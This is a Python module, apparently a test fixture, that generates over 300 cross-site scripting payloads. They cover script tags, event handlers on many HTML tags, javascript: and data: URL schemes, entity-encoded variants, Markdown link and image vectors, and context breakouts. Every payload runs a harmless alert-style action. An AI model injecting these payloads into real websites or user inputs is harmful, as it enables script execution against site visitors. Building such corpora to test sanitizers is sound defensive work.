"""At least 300 script-injection payloads, generated here (nothing is fetched): classic vectors,
event handlers on many tags, URL schemes, encodings, Markdown links and images, and breakouts."""

ACTIONS = ["alert('XSS{n}')", "confirm(XSS{n})", "prompt`XSS{n}`", "eval(atob('YWxlcnQoMSk='))//XSS{n}"]
HANDLER_TAGS = [
    "img src=x",
    "svg",
    "body",
    "iframe",
    "details open",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "marquee",
    "object data=x",
    "embed src=x",
    "a href=#",
    "div",
    "math",
    "keygen autofocus",
    "isindex",
    "form",
    "button",
]
HANDLERS = [
    "onerror",
    "onload",
    "ontoggle",
    "onfocus",
    "onmouseover",
    "onclick",
    "onbegin",
    "onstart",
    "onanimationstart",
    "onpointerenter",
]
SCHEMES = [
    "javascript:{a}",
    "JaVaScRiPt:{a}",
    " javascript:{a}",
    "java\tscript:{a}",
    "&#106;avascript:{a}",
    "data:text/html,<script>{a}</script>",
    "vbscript:msgbox(XSS{n})",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#XSS{n}",
]
WRAPPERS = [
    "{p}",
    '"><{inner}',
    "'><{inner}",
    "</textarea>{p}",
    "</title>{p}",
    "</script>{p}",
    "<!--{p}-->",
    "]]>{p}",
    "`{p}`",
    "**{p}**",
]


def payloads() -> list[str]:
    found: list[str] = []
    n = 0

    def add(text: str) -> None:
        nonlocal n
        n += 1
        found.append(text.replace("{n}", str(n)))

    for action in ACTIONS:
        add(f"<script>{action}</script>")
        add(f"<ScRiPt>{action}</sCrIpT>")
        add(f"<script src=data:,{action}></script>")
    for tag in HANDLER_TAGS:
        for handler in HANDLERS:
            add(f"<{tag} {handler}={ACTIONS[(len(found)) % len(ACTIONS)]}>")
    for scheme in SCHEMES:
        for action in ACTIONS[:2]:
            url = scheme.replace("{a}", action)
            add(f'<a href="{url}">click</a>')
            add(f"[click]({url})")
            add(f"![img]({url})")
            add(f'<iframe src="{url}"></iframe>')
            add(f'<form action="{url}"><button>go</button></form>')
    for wrapper in WRAPPERS:
        add(
            wrapper.replace("{p}", "<img src=x onerror=alert('XSS{n}')>").replace(
                "{inner}", "script>alert('XSS{n}')</script>"
            )
        )
        add(
            wrapper.replace("{p}", "<svg/onload=alert('XSS{n}')>").replace(
                "{inner}", "img src=x onerror=alert('XSS{n}')>"
            )
        )
    add("<style>*{background:url(javascript:alert('XSS{n}'))}</style>")
    add("<div style=\"background:url(javascript:alert('XSS{n}'))\">x</div>")
    add("<meta http-equiv=refresh content=\"0;url=javascript:alert('XSS{n}')\">")
    add("<base href=\"javascript:alert('XSS{n}')//\">")
    add("<link rel=stylesheet href=\"javascript:alert('XSS{n}')\">")
    add("<object data=\"javascript:alert('XSS{n}')\"></object>")
    add('<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(XSS{n})">')
    add('<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(XSS{n})">x</a>')
    add("{{7*7}} <img src=x onerror=alert('XSS{n}')>")
    add("<<script>script>alert('XSS{n}')<</script>/script>")
    return found


PAYLOADS = payloads()
